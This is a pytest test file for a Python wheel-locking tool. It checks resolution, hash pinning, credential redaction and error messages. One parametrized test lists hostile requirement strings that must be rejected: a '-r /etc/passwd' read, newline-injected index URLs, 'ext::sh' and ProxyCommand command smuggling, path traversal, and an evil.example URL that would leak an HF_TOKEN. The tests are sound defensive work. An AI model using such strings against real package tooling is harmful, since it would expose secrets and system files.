"""Requirements become one wheel for each package, by hash, or one sentence that says which and why not.

uv resolves against an index on loopback that the test fills.
"""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest

from cpack_build.errors import CpackError, HashMismatch, NetworkError, Unresolvable, UnsafeInput
from cpack_build.fetch.http import Sources
from cpack_build.fetch.mirrors import Mirrors
from cpack_build.fetch.store import Store
from cpack_build.lock.python import Target, lock_environment, lock_service, parse_requirements
from cpack_build.lock.schema import PythonEnvironment
from cpack_build.lock.wheels import fetch_wheel, wheels_of
from tests.lock.indexes import Index, wheel

TARGET = Target("3.11", "linux/amd64", 36)
pytestmark = pytest.mark.usefixtures("plain_uv")


def lock(index: Index, requirements: list[str], store: Store, **options: object) -> PythonEnvironment:
    with index.serve() as server:
        return lock_environment(
            requirements, target=TARGET, store=store, sources=Sources(), index_url=f"{server.url}/simple/", **options
        )  # type: ignore[arg-type]


def versions(environment: PythonEnvironment) -> dict[str, str]:
    return {one.name: one.version for one in wheels_of(environment)}


def test_every_package_is_one_wheel_with_its_hash(store: Store) -> None:
    index = Index()
    sha256 = index.add("alpha", "1.0", requires=["beta>=1"])
    index.add("beta", "1.0")
    index.add("beta", "2.0")

    environment = lock(index, ["alpha==1.0"], store)

    assert versions(environment) == {"alpha": "1.0", "beta": "2.0"}
    first = wheels_of(environment)[0]
    assert (first.filename, first.sha256) == ("alpha-1.0-py3-none-any.whl", sha256)
    assert first.url is not None
    assert first.url.endswith("/files/alpha-1.0-py3-none-any.whl")


def test_the_packs_pins_win_over_what_packages_wish(store: Store) -> None:
    index = Index()
    index.add("alpha", "1.0", requires=["beta>=2"])
    index.add("beta", "1.0")
    index.add("beta", "2.0")
    assert versions(lock(index, ["alpha==1.0", "beta==1.0"], store)) == {"alpha": "1.0", "beta": "1.0"}


def test_the_wheel_that_fits_the_image_best_is_taken(store: Store) -> None:
    index = Index()
    for tag in ("py3-none-any", "cp311-cp311-manylinux_2_17_x86_64", "cp311-cp311-manylinux_2_28_x86_64",
                "cp311-cp311-manylinux_2_39_x86_64", "cp312-cp312-manylinux_2_28_x86_64",
                "cp311-cp311-manylinux_2_28_aarch64", "cp311-cp311-win_amd64"):  # fmt: skip
        index.add("alpha", "1.0", tag=tag)
    (chosen,) = wheels_of(lock(index, ["alpha"], store))
    assert chosen.filename == "alpha-1.0-cp311-cp311-manylinux_2_28_x86_64.whl"


def test_an_older_glibc_gets_older_wheels(store: Store) -> None:
    index = Index()
    index.add("alpha", "1.0", tag="cp311-cp311-manylinux_2_28_x86_64")
    index.add("alpha", "1.0", tag="cp311-cp311-manylinux_2_17_x86_64")
    with index.serve() as server:
        environment = lock_environment(
            ["alpha"], target=Target("3.11", "linux/amd64", 27), store=store, sources=Sources(),
            index_url=f"{server.url}/simple/",
        )  # fmt: skip
    assert wheels_of(environment)[0].filename == "alpha-1.0-cp311-cp311-manylinux_2_17_x86_64.whl"


def test_settings_add_replace_and_exclude(store: Store) -> None:
    index = Index()
    index.add("alpha", "1.0", requires=["gamma"])
    index.add("alpha", "2.0", requires=["gamma"])
    index.add("delta", "1.0")
    environment = lock(
        index, ["alpha==1.0", "broken @ file:///somewhere"], store,
        packages=["alpha==2.0", "delta"], exclude=["Gamma", "broken"],
    )  # fmt: skip
    assert versions(environment) == {"alpha": "2.0", "delta": "1.0"}


def test_nothing_of_this_machine_is_in_the_lock(store: Store, tmp_path: Path) -> None:
    index = Index()
    index.add("alpha", "1.0", requires=["local"])
    filename, data = wheel("local", "1.0+cpu", tag="cp311-cp311-linux_x86_64")
    folder = tmp_path / "wheels"
    folder.mkdir()
    (folder / filename).write_bytes(data)

    environment = lock(index, ["alpha", "local==1.0+cpu"], store, find_links=[str(folder)])

    assert str(tmp_path) not in environment.pylock
    assert f'path = "{filename}"' in environment.pylock
    local = wheels_of(environment)[1]
    assert (local.url, local.sha256, local.size) == (None, hashlib.sha256(data).hexdigest(), len(data))
    found = fetch_wheel(local, store=Store(tmp_path / "other"), sources=Sources(), find_links=[str(folder)])
    assert found.path == folder / filename
    with pytest.raises(Unresolvable, match=r"local-1\.0\+cpu.*--find-links"):
        fetch_wheel(local, store=Store(tmp_path / "third"), sources=Sources())


def test_the_order_of_the_list_does_not_matter(store: Store) -> None:
    index = Index()
    for name in ("alpha", "beta", "gamma"):
        index.add(name, "1.0")
    with index.serve() as server:
        texts = {
            lock_environment(
                names, target=TARGET, store=store, sources=Sources(), index_url=f"{server.url}/simple/"
            ).pylock
            for names in (["alpha", "beta", "gamma"], ["gamma", "alpha", "beta"])
        }
    assert len(texts) == 1


def test_credentials_of_an_index_stay_out_of_the_lock_and_come_back_for_its_host(store: Store, tmp_path: Path) -> None:
    index = Index()
    index.add("alpha", "1.0")
    with index.serve() as server:
        url = server.url.replace("://", "://user:secret@") + "/simple/"
        environment = lock_environment(["alpha"], target=TARGET, store=store, sources=Sources(), index_url=url)
        assert "secret" not in environment.pylock
        (alpha,) = wheels_of(environment)
        server.requests.clear()
        fetch_wheel(alpha, store=Store(tmp_path / "a"), sources=Sources(), index_urls=[url])
        fetch_wheel(
            alpha, store=Store(tmp_path / "b"), sources=Sources(), index_urls=["https://u:secret@else.example/"]
        )
    assert ["authorization" in request.headers for request in server.requests] == [True, False]


def test_an_index_without_hashes_is_hashed_here(store: Store) -> None:
    index = Index(hashed=False)
    sha256 = index.add("alpha", "1.0")
    assert wheels_of(lock(index, ["alpha"], store))[0].sha256 == sha256


@pytest.mark.parametrize(
    ("requirements", "said", "hint"),
    [
        (["nowhere==1.0"], "nowhere", "python.exclude"),
        (["alpha==9"], r"no version of alpha==9", "python.packages"),
        (["alpha==1.0+cu999"], r"alpha==1\.0\+cu999", r"Name where alpha 1\.0\+cu999 lies with --find-links"),
        (["windows"], "windows", "Only wheels"),
    ],
)
def test_what_cannot_be_resolved_is_one_sentence_and_a_way_out(
    requirements: list[str], said: str, hint: str, store: Store
) -> None:
    index = Index()
    index.add("alpha", "1.0")
    index.add("windows", "1.0", tag="cp311-cp311-win_amd64")
    with pytest.raises(Unresolvable, match=f"{said}.*{hint}") as caught:
        lock(index, requirements, store)
    assert "\n" not in str(caught.value)
    assert caught.value.exit_code == 4


def test_an_unreachable_index_is_a_network_error_without_secrets(store: Store) -> None:
    with pytest.raises(NetworkError, match="--index-url") as caught:
        lock_environment(
            ["alpha"], target=TARGET, store=store, sources=Sources(), index_url="http://user:secret@127.0.0.1:9/simple/"
        )
    assert "secret" not in str(caught.value)


def test_a_mirrored_index_is_asked_instead(store: Store) -> None:
    index = Index()
    index.add("alpha", "1.0")
    with index.serve() as server:
        sources = Sources(Mirrors({"https://index.example/": f"{server.url}/"}))
        environment = lock_environment(
            ["alpha"], target=TARGET, store=store, sources=sources, index_url="https://index.example/simple/"
        )
    assert versions(environment) == {"alpha": "1.0"}


@pytest.mark.parametrize(
    ("requirement", "error"),
    [
        ("--index-url=https://evil.example/", UnsafeInput),
        ("-e .", UnsafeInput),
        ("-r /etc/passwd", UnsafeInput),
        ("./local", UnsafeInput),
        ("/srv/x.whl", UnsafeInput),
        ("alpha==1.0\n--index-url=https://evil.example/", UnsafeInput),
        ("alpha @ file:///srv/x.whl", UnsafeInput),
        ("alpha @ ext::sh", UnsafeInput),
        ("alpha @ git+https://code.example/a", Unresolvable),
        ("alpha @ git+https://code.example/a@main", Unresolvable),
        ("alpha @ git+file:///srv/a", UnsafeInput),
        ("alpha @ git+ext::sh%20-c@0123456789012345678901234567890123456789", UnsafeInput),
        ("alpha @ git+https://-oProxyCommand=x/a@0123456789012345678901234567890123456789", UnsafeInput),
        ("alpha @ git+https://h.example/a@0123456789012345678901234567890123456789#subdirectory=../x", UnsafeInput),
        ("alpha @ http://code.example/a.tar.gz", Unresolvable),
        ("alpha @ hg+https://code.example/a", Unresolvable),
        ("alpha @ http://code.example/a-1-py3-none-any.whl", Unresolvable),
        # uv would put the user's own environment variable there and send it
        ("alpha @ https://evil.example/${HF_TOKEN}/a-1-py3-none-any.whl", UnsafeInput),
        ("", UnsafeInput),
    ],
)
def test_hostile_requirements_never_reach_uv(requirement: str, error: type[CpackError]) -> None:
    with pytest.raises(error) as caught:
        parse_requirements([requirement])
    assert str(caught.value)
    assert parse_requirements([requirement], exclude=["alpha"]) == [] if "@" in requirement else True


@pytest.mark.parametrize("name", ["x\n-r /etc/passwd", "-r /etc/passwd", "x @ https://evil.example/x.whl", ""])
def test_what_is_excluded_is_a_name_and_nothing_else(name: str, store: Store) -> None:
    with pytest.raises(UnsafeInput, match=r"python\.exclude"):
        lock(Index(), [], store, exclude=[name])


def test_a_wheel_by_https_url_is_a_requirement() -> None:
    (requirement,) = parse_requirements(["alpha @ https://code.example/alpha-1-py3-none-any.whl"])
    assert requirement.name == "alpha"


def service_requirements(index: Index, *, sha256: str) -> str:
    index.add("beta", "1.0")
    index.add("alpha", "2.0")
    return f"alpha==1.0 ; python_version >= '3.9' \\\n    --hash=sha256:{'0' * 64} \\\n    --hash=sha256:{sha256}\n"


def test_the_service_takes_its_pins_and_nothing_else(store: Store) -> None:
    index = Index()
    text = service_requirements(index, sha256=index.add("alpha", "1.0", requires=["beta"]))
    with index.serve() as server:
        environment = lock_service(
            text, target=TARGET, store=store, sources=Sources(), index_url=f"{server.url}/simple/"
        )
    assert versions(environment) == {"alpha": "1.0"}


def test_a_better_wheel_that_came_after_the_release_is_not_looked_at(store: Store) -> None:
    index = Index()
    text = f"alpha==1.0 --hash=sha256:{index.add('alpha', '1.0')}\n"
    index.add("alpha", "1.0", tag="cp311-cp311-manylinux_2_28_x86_64")
    with index.serve() as server:
        environment = lock_service(
            text, target=TARGET, store=store, sources=Sources(), index_url=f"{server.url}/simple/"
        )
    assert [wheel.filename for wheel in wheels_of(environment)] == ["alpha-1.0-py3-none-any.whl"]


def test_the_service_refuses_other_bytes(store: Store) -> None:
    index = Index()
    index.add("alpha", "1.0")
    text = service_requirements(index, sha256="1" * 64)
    with index.serve() as server, pytest.raises(HashMismatch, match=r"alpha-1\.0"):
        lock_service(text, target=TARGET, store=store, sources=Sources(), index_url=f"{server.url}/simple/")


def test_a_tampered_pylock_is_noticed(store: Store) -> None:
    index = Index()
    index.add("alpha", "1.0")
    environment = lock(index, ["alpha"], store)
    with pytest.raises(HashMismatch, match="pylock"):
        wheels_of(environment.model_copy(update={"pylock": environment.pylock.replace("alpha", "omega")}))


def test_pylock_is_toml_whatever_is_in_it() -> None:
    from cpack_build.lock.wheels import Wheel, pylock_text, read_toml

    odd = 'https://h.example/"\\\x01\n/a-1.0-py3-none-any.whl'
    text = pylock_text([Wheel("a", "1.0", "a-1.0-py3-none-any.whl", odd, "0" * 64, 1)], python_version="3.11")
    packages = read_toml(text)["packages"]
    assert isinstance(packages, list)
    assert packages[0]["wheels"][0]["url"] == odd
